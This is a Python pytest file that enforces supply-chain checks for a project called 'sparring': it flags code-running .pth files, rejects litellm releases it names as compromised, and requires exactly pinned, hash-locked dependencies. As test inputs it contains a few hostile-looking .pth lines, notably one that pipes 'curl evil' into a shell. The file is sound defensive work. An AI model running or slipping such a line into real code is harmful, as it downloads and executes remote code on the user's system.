"""Supply chain: hash-locked dependencies, no code-executing .pth files, no compromised litellm.

A `.pth` file in site-packages runs every line that starts with `import` at *every* interpreter start, before any
of our code: that is how the compromised litellm 1.82.8 ran its payload (`litellm_init.pth`). So we fail on any
installed distribution that ships such a file, except the short allow-list below, each entry checked by content.
"""

from __future__ import annotations

import importlib.metadata as md
import re
import tomllib
from pathlib import Path

import pytest
from packaging.markers import default_environment
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

REPO = Path(__file__).resolve().parent.parent
LOCK = REPO / "requirements.lock"

COMPROMISED_LITELLM = {"1.82.7", "1.82.8", "1.107.0"}

# (distribution, .pth file name pattern, the only executable content allowed). Why each is safe:
#  - setuptools' distutils-precedence.pth makes `import distutils` use setuptools' copy; it imports nothing else.
#  - an editable install of *this* project (pip install -e .) adds a finder that maps `sparring` to the work tree.
ALLOWED_PTH = [
    ("setuptools", re.compile(r"distutils-precedence\.pth"),
     re.compile(r"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os\.environ\.get\(var, 'local'\) == "
                r"'local'; enabled and __import__\('_distutils_hack'\)\.add_shim\(\); ?")),
    ("sparring", re.compile(r"__editable__\.sparring-[\w.]+\.pth"),
     re.compile(r"import __editable___sparring_[\w]+_finder; __editable___sparring_[\w]+_finder\.install\(\)")),
]


def executable_lines(text: str) -> list[str]:
    """The lines `site.addpackage` would exec (it runs lines starting with 'import ' or 'import\\t')."""
    return [ln.rstrip("\n") for ln in text.splitlines() if ln.startswith(("import ", "import\t"))]


def pth_offenders() -> list[str]:
    out = []
    for dist in md.distributions():
        name = canonicalize_name(dist.metadata["Name"] or "?")
        for f in dist.files or []:
            if not str(f).endswith(".pth"):
                continue
            try:
                text = Path(dist.locate_file(f)).read_text(encoding="utf-8", errors="replace")
            except OSError:
                continue
            code = executable_lines(text)
            if not code:
                continue  # plain path entries only: harmless
            allowed = [rx for d, fname, rx in ALLOWED_PTH if d == name and fname.fullmatch(Path(str(f)).name)]
            if not allowed or not all(any(rx.fullmatch(ln) for rx in allowed) for ln in code):
                out.append(f"{name} {dist.version}: {f} executes {code[0][:120]!r}")
    return out


def test_no_installed_distribution_ships_a_pth_that_runs_code():
    offenders = pth_offenders()
    assert not offenders, ("these installed packages run code at every Python start via a .pth file; "
                           "uninstall them or, if reviewed as safe, add them to ALLOWED_PTH with the reason:\n"
                           + "\n".join(offenders))


@pytest.mark.parametrize("text,n", [
    ("/some/path\n", 0),
    ("# comment\nimport os\n", 1),
    ("import\tsys; sys.path.append('x')\n", 1),
    ("importlib is not an import line\n", 0),
    ("import os;exec('payload')\n", 1),
])
def test_executable_line_detection_matches_site_py(text, n):
    assert len(executable_lines(text)) == n


def test_allow_list_rejects_a_look_alike():
    """A hostile line in an allowed file name still fails: the content is checked, not only the name."""
    _, fname, rx = ALLOWED_PTH[0]
    assert fname.fullmatch("distutils-precedence.pth")
    assert not rx.fullmatch("import os; os.system('curl evil | sh')")


def test_installed_litellm_is_not_a_compromised_release():
    v = md.version("litellm")
    assert v not in COMPROMISED_LITELLM, f"litellm {v} is a compromised release: uninstall it now and rotate keys"


def _pyproject_requirements() -> list[Requirement]:
    data = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    reqs = list(data["dependencies"])
    for extra in data.get("optional-dependencies", {}).values():
        reqs.extend(extra)
    return [Requirement(r) for r in reqs]


def test_every_direct_dependency_is_pinned_exactly_and_litellm_is_safe():
    for r in _pyproject_requirements():
        specs = list(r.specifier)
        assert len(specs) == 1 and specs[0].operator == "==", f"pyproject.toml: pin {r.name} exactly (==)"
        if canonicalize_name(r.name) == "litellm":
            assert specs[0].version not in COMPROMISED_LITELLM


def _lock() -> dict[str, tuple[str, list[str]]]:
    """name -> (version, hashes) from requirements.lock (pip-compile format: continuation lines)."""
    text = LOCK.read_text(encoding="utf-8")
    entries: dict[str, tuple[str, list[str]]] = {}
    for block in re.split(r"\n(?=[A-Za-z0-9])", text):
        first = block.split("\\")[0].strip()
        if not first or first.startswith("#"):
            continue
        m = re.fullmatch(r"([A-Za-z0-9_.\-]+)==([^\s;]+)(\s*;.*)?", first)
        assert m, f"requirements.lock: not an exact pin: {first!r}"
        entries[canonicalize_name(m[1])] = (m[2], re.findall(r"--hash=sha256:([0-9a-f]{64})", block))
    return entries


def test_lock_file_pins_every_package_with_hashes():
    lock = _lock()
    assert len(lock) > 50, "requirements.lock looks truncated"
    no_hash = [n for n, (_, h) in lock.items() if not h]
    assert not no_hash, f"requirements.lock: packages without --hash: {no_hash}"
    assert lock["litellm"][0] not in COMPROMISED_LITELLM


def _closure(roots: list[Requirement]) -> dict[str, str]:
    """Installed name -> version for the roots and everything they require (markers evaluated here)."""
    env = default_environment()
    seen: dict[str, str] = {}
    todo = [(r, "") for r in roots]
    while todo:
        req, extra = todo.pop()
        if req.marker and not req.marker.evaluate({**env, "extra": extra}):
            continue
        name = canonicalize_name(req.name)
        try:
            dist = md.distribution(req.name)
        except md.PackageNotFoundError:
            continue  # optional dependency of something, not installed: nothing to lock
        if name in seen:
            continue
        seen[name] = dist.version
        for sub in dist.requires or []:
            sr = Requirement(sub)
            extras = req.extras or {""}
            for e in extras:
                todo.append((sr, e))
    return seen


def test_lock_covers_the_full_installed_dependency_set_at_the_installed_versions():
    """Every package Sparring (and its test extra) pulls in is locked, at the version these tests ran with."""
    lock = _lock()
    closure = _closure(_pyproject_requirements())
    missing = sorted(n for n in closure if n not in lock)
    assert not missing, f"requirements.lock misses {missing}; regenerate it (docs/security.md)"
    drift = sorted(f"{n}: installed {v}, locked {lock[n][0]}" for n, v in closure.items() if lock[n][0] != v)
    assert not drift, "installed versions differ from requirements.lock:\n" + "\n".join(drift)


def test_gradio_is_the_pinned_release():
    """Gradio pinned exactly (file-access CVEs were fixed release by release; upgrades are deliberate)."""
    pins = {canonicalize_name(r.name): str(r.specifier) for r in _pyproject_requirements()}
    assert pins["gradio"] == "==6.31.0"
    assert md.version("gradio") == "6.31.0"


def test_every_package_the_lock_names_is_installed_at_the_locked_version():
    """`pip freeze` after the README install equals the lock, for every package the lock names (pip and
    setuptools included: the lock pins them too)."""
    lock = _lock()
    wrong = []
    for name, (version, _) in sorted(lock.items()):
        try:
            installed = md.version(name)
        except md.PackageNotFoundError:
            installed = "not installed"
        if installed != version:
            wrong.append(f"{name}: locked {version}, {installed}")
    assert not wrong, ("the environment is not the lock; install with the README's command:\n" + "\n".join(wrong))


def _readme_install_command() -> str:
    """The README's install command: the first line of its first code block that runs pip."""
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Two commands"):]
    block = section[section.index("```bash") + len("```bash"):]
    block = block[:block.index("```")]
    return next(ln.strip() for ln in block.splitlines() if "pip install" in ln)


def test_ci_runs_the_readme_install_command_verbatim_and_checks_it():
    command = _readme_install_command()
    assert "--require-hashes" in command and "--no-deps" in command and "requirements.lock" in command
    ci = (REPO / ".ci" / "run").read_text(encoding="utf-8").splitlines()
    assert command in [ln.strip() for ln in ci], ".ci/run must run the README's install command as written"
    assert "python -m pip check" in [ln.strip() for ln in ci]
